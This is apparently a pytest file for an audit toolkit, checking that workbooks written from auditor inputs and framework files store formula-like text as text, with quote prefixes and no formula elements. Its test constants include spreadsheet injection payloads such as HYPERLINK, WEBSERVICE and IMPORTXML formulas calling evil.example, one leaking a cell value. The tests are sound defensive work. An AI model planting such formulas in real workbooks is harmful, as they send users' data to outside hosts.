"""Every workbook the toolkit writes stores text from its inputs as text, never as a live formula.

A Case ID of ``=HYPERLINK(...)`` in an auditor's workbook must not become a link
in the board's scored workbook, and a hostile framework file must not put
formulas into the blank template. Checked at the XML level: no ``<f>`` element
anywhere, no error cells, and the text reads back exactly as it went in.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd

from audit.analyse.area_result import analyse_area
from audit.check.validate import load_audit
from audit.framework.model import load_framework
from audit.publish.published import publish
from audit.render.scored_workbook import scored_workbook_bytes
from audit.workbooks.sample import write_workbook
from audit.workbooks.template import case_columns, write_template
from audit.xlsx_text import append, put
from tests.conftest import SMALL_YAML, header_for

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B5,"click")'
HOSTILE_IDS = (HYPERLINK, "+1+2", "-3-4", "@SUM(A1:A2)", "#N/A", '=WEBSERVICE("http://evil.example")')
HOSTILE_AREA = "=2+2 area"
HOSTILE_TEXT = '=IMPORTXML("http://evil.example","//a")'


def _formula_free(xlsx: bytes) -> dict[str, bytes]:
    """The sheet XML of a workbook, asserting no cell holds a formula or an error value."""
    sheets = {}
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name)
                assert not re.search(rb"<(?:\w+:)?f[ >/]", xml), f"formula element in {name}"
                assert b't="e"' not in xml, f"error cell in {name}"
                sheets[name] = xml
    assert sheets
    return sheets


def _texts(xlsx: bytes) -> set[str]:
    """Every string cell value, as a spreadsheet reader sees it."""
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    out = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    out.add(cell.value)
    return out


def _hostile_input(path: Path, framework, moderation: bool = True) -> Path:
    """An input workbook whose IDs, area and free text look like formulas, stored (as auditors' files are) as text."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Cases"
    header = header_for(framework, ("Auditor comments",))
    append(ws, header)
    answers = ["Yes", "No", "Partly"]
    rows = []
    for i, cid in enumerate(HOSTILE_IDS):
        rows.append(
            [cid, HOSTILE_AREA, dt.date(2025, 3, 1), "3-7", "Police", "Good", HOSTILE_TEXT]
            + [answers[(i + j) % 3] for j in range(len(framework.criteria))]
        )
    rows.append(list(rows[0]))  # HYPERLINK twice: both copies go to the Excluded sheet
    for row in rows:
        append(ws, row)
    if moderation:
        mod = wb.create_sheet("Moderation")
        append(mod, header)
        append(mod, rows[1])
        append(mod, rows[2][:-1] + ["No"])
    wb.save(path)
    return path


def test_workbook_text_written_as_text_in_scored_workbook(tmp_path, framework):
    path = _hostile_input(tmp_path / "=1+1 file.xlsx", framework)
    data = load_audit(path, framework, scan=False)
    assert data.areas == [HOSTILE_AREA]
    assert len(data.scored) == len(HOSTILE_IDS) - 1 and len(data.excluded) == 2
    xlsx = scored_workbook_bytes(publish(analyse_area(data, HOSTILE_AREA), None))
    _formula_free(xlsx)
    texts = _texts(xlsx)
    for value in (*HOSTILE_IDS, f"{HOSTILE_AREA}: case-file audit results", "=1+1 file.xlsx"):
        assert value in texts, value
    assert any(t.startswith("=1+1 file.xlsx Cases!row") for t in texts)  # the Source column
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    assert book["Summary"]["A1"].value == f"{HOSTILE_AREA}: case-file audit results"
    assert {r[0] for r in book["Excluded"].iter_rows(min_row=2, values_only=True)} == {HYPERLINK}
    moderated = {r[0] for r in book["Moderation"].iter_rows(values_only=True)}
    assert {"+1+2", "-3-4"} <= moderated
    # Excel's quote prefix keeps formula-like text as text even when a user edits the cell
    cases = book["Cases"]
    ids = [c for c in cases["A"] if c.value in HOSTILE_IDS]
    assert ids and all(c.quotePrefix for c in ids if c.value[0] in "=+-@")


def _hostile_framework(tmp_path: Path):
    text = (
        SMALL_YAML.replace('title: "A small test framework"', 'title: "=HYPERLINK(\\"http://evil.example\\")"')
        .replace("label: Seen promptly", 'label: "=1+1 seen"')
        .replace('question: "Was the child seen promptly?"', 'question: "@SUM(1,2)"')
        .replace("label: First theme", 'label: "+First theme"')
        .replace("police: Police}", 'police: "-Police, \\"the force\\""}')
        .replace('age_bands: ["Under 5", "5 and over"]', 'age_bands: ["=Under 5", "5, \\"and\\" over"]')
        .replace("{grade: Good, min: 0.6}", '{grade: "=Good", min: 0.6}')
    )
    path = tmp_path / "hostile.yml"
    path.write_text(text, encoding="utf-8")
    return load_framework(path)


def test_hostile_framework_text_written_as_text_in_template(tmp_path):
    fw = _hostile_framework(tmp_path)
    path = write_template(tmp_path / "blank.xlsx", fw)
    xlsx = path.read_bytes()
    _formula_free(xlsx)
    texts = _texts(xlsx)
    for value in ('=HYPERLINK("http://evil.example")', "X1 =1+1 seen", "=1+1 seen", "@SUM(1,2)", "+First theme"):
        assert value in texts, value
    assert {"=Under 5", '5, "and" over', "=Good"} <= texts  # on the hidden Lists sheet
    wb = openpyxl.load_workbook(path)
    formulas = {dv.formula1 for dv in wb["Cases"].data_validations.dataValidation if dv.formula1}
    # framework text never goes into a validation formula: the lists point at the hidden sheet instead
    assert {"AgeBands", "Grades"} <= formulas
    assert not any("=" in f or "Under" in f for f in formulas if f.startswith('"'))


def test_sample_writer_keeps_text_as_text(tmp_path, framework):
    columns = case_columns(framework)
    row = dict.fromkeys(columns, "Yes")
    row.update({"Case ID": HYPERLINK, "Area": HOSTILE_AREA, "Auditor comments": HOSTILE_TEXT, "Age band": "#N/A"})
    row["Audit date"] = dt.date(2025, 1, 2)
    path = write_workbook(tmp_path / "s.xlsx", pd.DataFrame([row]), framework)
    xlsx = path.read_bytes()
    _formula_free(xlsx)
    assert {HYPERLINK, HOSTILE_AREA, HOSTILE_TEXT, "#N/A"} <= _texts(xlsx)


def test_put_cleans_what_xlsx_cannot_hold(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    put(ws, 1, 1, "a\x01b")
    put(ws, 2, 1, "Ynys M\udcf4n.xlsx")  # a file name with an undecodable byte
    put(ws, 3, 1, 7)
    buf = io.BytesIO()
    wb.save(buf)
    got = openpyxl.load_workbook(buf)["Sheet"]
    assert [got["A1"].value, got["A2"].value, got["A3"].value] == ["a\ufffdb", "Ynys M\ufffdn.xlsx", 7]


def test_small_framework_template_unchanged_by_text_handling(tmp_path, small_framework):
    """Plain framework text still goes inline, as before."""
    fw = replace(small_framework)
    wb = openpyxl.load_workbook(write_template(tmp_path / "t.xlsx", fw))
    formulas = {dv.formula1 for dv in wb["Cases"].data_validations.dataValidation}
    assert '"Under 5,5 and over"' in formulas and "Lists" not in wb.sheetnames
